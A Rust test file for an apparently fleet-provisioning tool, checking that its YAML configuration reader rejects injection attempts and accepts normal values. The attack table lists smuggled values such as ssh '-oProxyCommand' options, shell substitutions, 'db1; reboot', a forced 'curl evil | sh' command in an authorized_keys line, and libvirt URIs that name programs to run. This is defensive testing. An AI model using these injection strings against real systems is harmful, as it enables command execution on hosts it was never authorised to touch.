//! Files of an attacker or of a careless operator → the refusal, one row each.

use raftsman_core::spec::{LARGEST_FILE, read, read_with_keys};

fn machines(lines: &str) -> String {
    let lines: Vec<String> = lines.lines().map(|line| format!("  {line}")).collect();
    format!("fleet: shop\nmachines:\n{}\netcd: {{ main: {{ members: 3 }} }}\n", lines.join("\n"))
}

fn host(text: &str) -> String {
    let list = format!(
        "[{{ name: a, address: 10.0.0.1, host: {text:?} }}, {{ name: b, address: 10.0.0.2 }}, {{ name: c, address: 10.0.0.3 }}]"
    );
    format!("fleet: shop\nmachines: {{ provider: hosts }}\netcd: {{ main: {{ members: {list} }} }}\n")
}

fn user(text: &str) -> String {
    host("db1").replace("provider: hosts", &format!("provider: hosts, ssh: {{ user: {text:?} }}"))
}

fn ssh_key(text: &str) -> String {
    // An escape as YAML writes it.
    machines(&format!("admin: {{ ssh_keys: [{text:?}] }}").replace("\\u{1b}", "\\e"))
}

fn uri(text: &str) -> String {
    machines(&format!(
        "provider: libvirt\nimage: debian-13\nsubnet: 10.77.0.0/24\ninstall_dependencies: false\nlibvirt: {{ uri: {text:?} }}"
    ))
}

fn pool(text: &str) -> String {
    machines(&format!(
        "provider: libvirt\nimage: debian-13\nsubnet: 10.77.0.0/24\ninstall_dependencies: false\nlibvirt: {{ pool: {text:?} }}"
    ))
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGPyOWdEIhXNfMUSAlHTXSHT/4XGGNWEhBUmlUGrMkJV me@here";

#[test]
fn attacks_by_the_file_are_refused() {
    let second_key = format!("{KEY}\ncommand=\"curl evil | sh\" {KEY}");
    let carriage = format!("{KEY}\rssh-ed25519 AAAA");
    let escape = format!("{KEY}\u{1b}[2J");
    let attacks = [
        // What becomes an argument of `ssh`.
        ("an option of ssh as the host", host("-oProxyCommand=touch /tmp/x"), "host-invalid"),
        ("an option of ssh behind a user", host("me@-oProxyCommand=x"), "host-invalid"),
        ("a command substitution as the host", host("$(touch /tmp/x)"), "host-invalid"),
        ("backticks in the host", host("`id`"), "host-invalid"),
        ("a second command behind the host", host("db1; reboot"), "host-invalid"),
        ("a line break in the host", host("db1\nreboot"), "host-invalid"),
        ("a quote in the host", host("db1' 'x"), "host-invalid"),
        ("an empty host", host(""), "host-invalid"),
        ("a URL as the host", host("ssh://db1/-oProxyCommand=x"), "host-invalid"),
        ("an option of ssh as the user", user("-oProxyCommand=touch /tmp/x"), "ssh-user-invalid"),
        ("a command substitution as the user", user("$(id)"), "ssh-user-invalid"),
        ("a space in the user", user("root -oProxyCommand=x"), "ssh-user-invalid"),
        ("a line break in the user", user("root\nx"), "ssh-user-invalid"),
        ("an empty user", user(""), "ssh-user-invalid"),
        // What becomes a line of `authorized_keys`.
        ("a second key with a forced command behind a line break", ssh_key(&second_key), "ssh-key-invalid"),
        ("a carriage return in a key", ssh_key(&carriage), "ssh-key-invalid"),
        ("a terminal's escape in a key", ssh_key(&escape), "ssh-key-invalid"),
        ("options in front of a key", ssh_key(&format!("command=\"id\" {KEY}")), "ssh-key-invalid"),
        // What becomes an argument of `virsh`, which runs programs that a URI names.
        ("a program as libvirt's transport", uri("qemu+ext:///system?command=/tmp/x"), "libvirt-uri-command"),
        ("a program in the place of ssh", uri("qemu+ssh://kvm1/system?command=/tmp/x"), "libvirt-uri-command"),
        ("a program on the libvirt host", uri("qemu+ssh://kvm1/system?netcat=/tmp/x"), "libvirt-uri-command"),
        (
            "a program behind a harmless parameter",
            uri("qemu+ssh://kvm1/system?no_tty=1&command=x"),
            "libvirt-uri-command",
        ),
        ("an escaped name of a parameter", uri("qemu+ssh://kvm1/system?comm%61nd=/tmp/x"), "libvirt-uri-parameter"),
        ("a parameter that is not known", uri("qemu+ssh://kvm1/system?foo=1"), "libvirt-uri-parameter"),
        ("no check of the server's certificate", uri("qemu+tls://kvm1/system?no_verify=1"), "libvirt-uri-unverified"),
        (
            "no check of the server's key",
            uri("qemu+libssh2://kvm1/system?known_hosts_verify=ignore"),
            "libvirt-uri-unverified",
        ),
        ("an option of ssh as libvirt's host", uri("qemu+ssh://-oProxyCommand=x/system"), "libvirt-uri-invalid"),
        ("a command substitution in libvirt's host", uri("qemu+ssh://$(id)/system"), "libvirt-uri-invalid"),
        ("a shell in the path of a key", uri("qemu+ssh://kvm1/system?keyfile=/k;id"), "libvirt-uri-parameter"),
        ("a substitution in the path of a key", uri("qemu+ssh://kvm1/system?keyfile=$(id)"), "libvirt-uri-invalid"),
        (
            "an option in the place of a key",
            uri("qemu+ssh://kvm1/system?keyfile=-oProxyCommand=x"),
            "libvirt-uri-invalid",
        ),
        ("an escaped host", uri("qemu+ssh://%2DoProxyCommand/system"), "libvirt-uri-invalid"),
        ("an unknown transport", uri("qemu+sh://kvm1/system"), "libvirt-uri-invalid"),
        ("a shell in the path", uri("qemu+ssh://kvm1/system$(id)"), "libvirt-uri-invalid"),
        ("an option of virsh as a pool", pool("--all"), "libvirt-name-invalid"),
        ("an option as an image", machines("image: --help"), "image-invalid"),
    ];
    for (attack, text, code) in &attacks {
        let reading = read(text);
        let found: Vec<_> = reading.diagnostics.iter().filter(|d| d.is_error()).map(|d| d.code).collect();
        assert!(reading.spec.is_none(), "{attack} passes");
        assert!(found.contains(code), "{attack}: {found:?}\n{}", reading.render("raftsman.yaml", text, false));
    }
    assert!(attacks.len() >= 30);
}

#[test]
fn what_people_write_is_still_accepted() {
    let fine = [
        host("db1.example.org"),
        host("db_1"),
        host("root@db1"),
        host("fd00::1"),
        user("deploy"),
        user("Deploy.Bot_1+x"),
        ssh_key(KEY),
        ssh_key(&format!("{KEY}\n")),
        uri("qemu:///system"),
        uri("qemu:///session"),
        uri("qemu+unix:///system?socket=/tmp/x/run/libvirt-sock"),
        uri("qemu+ssh://root@kvm1.example.com:2222/system"),
        uri("qemu+ssh://kvm1/system?keyfile=/home/me/.ssh/kvm&no_tty=1"),
        uri("qemu+tls://[fd00::1]/system?pkipath=/etc/pki/kvm"),
        uri("qemu+libssh2://kvm1/system?known_hosts_verify=normal&known_hosts=/k"),
    ];
    for text in &fine {
        let reading = read(text);
        assert_eq!(reading.errors(), 0, "{}", reading.render("raftsman.yaml", text, false));
    }
}

fn authorities(clusters: &[(&str, Option<&str>, Option<&str>)]) -> String {
    let mut text = "fleet: shop\netcd:\n".to_owned();
    let brought = |file: &str| format!("{{ brought: {{ certificate: {file}.pem, key: {{ file: {file}.key }} }} }}");
    for (name, peers, clients) in clusters {
        let sides = [("peers", peers), ("clients", clients)];
        let sides = sides.iter().filter_map(|(side, file)| Some(format!("{side}: {}", brought((**file)?))));
        text += &format!("  {name}: {{ members: 3, ca: {{ {} }} }}\n", sides.collect::<Vec<_>>().join(", "));
    }
    text
}

#[test]
fn two_files_with_one_key_are_one_authority() {
    // `a` and `b` are other files with the same key.
    let keys = |file: &str| match file {
        "a.pem" | "b.pem" | "./b.pem" => Some("one".to_owned()),
        "c.pem" => Some("another".to_owned()),
        _ => None,
    };
    let codes = |text: &str| -> Vec<&'static str> {
        let reading = read_with_keys(text, &keys);
        assert!(reading.diagnostics.iter().all(|d| d.line > 1), "they have a place");
        reading.diagnostics.iter().map(|d| d.code).collect()
    };
    let rows: [(&str, Vec<_>, &[&str]); 7] = [
        ("peers and clients of a cluster", vec![("x", Some("a"), Some("b"))], &["ca-shared"]),
        ("peers of two clusters", vec![("x", Some("a"), None), ("y", Some("b"), None)], &["ca-shared"]),
        ("peers and another's clients", vec![("x", Some("a"), None), ("y", None, Some("b"))], &["ca-shared"]),
        ("clients and another's peers", vec![("x", None, Some("a")), ("y", Some("b"), None)], &["ca-shared"]),
        ("clients of two clusters", vec![("x", None, Some("a")), ("y", None, Some("b"))], &["ca-shared-clients"]),
        ("other keys", vec![("x", Some("a"), Some("c"))], &[]),
        ("files that cannot be read", vec![("x", Some("d"), Some("e"))], &[]),
    ];
    for (row, clusters, expected) in rows {
        assert_eq!(codes(&authorities(&clusters)), expected, "{row}");
    }
    // By their names alone, where nothing can be read.
    let one = "fleet: shop\netcd: { x: { members: 3, ca: { peers: { brought: { certificate: d.pem, key: { env: K } } }, \
               clients: { brought: { certificate: e.pem, key: { env: K } } } } } }\n";
    assert_eq!(read(one).diagnostics.iter().map(|d| d.code).collect::<Vec<_>>(), ["ca-shared"]);
}

#[test]
fn a_file_that_is_too_large_costs_nothing() {
    let text = "a: b\n".repeat(LARGEST_FILE / 5 + 1);
    let reading = read(&text);
    assert_eq!(reading.diagnostics.iter().map(|d| d.code).collect::<Vec<_>>(), ["file-too-large"]);
    assert!(reading.spec.is_none());
}
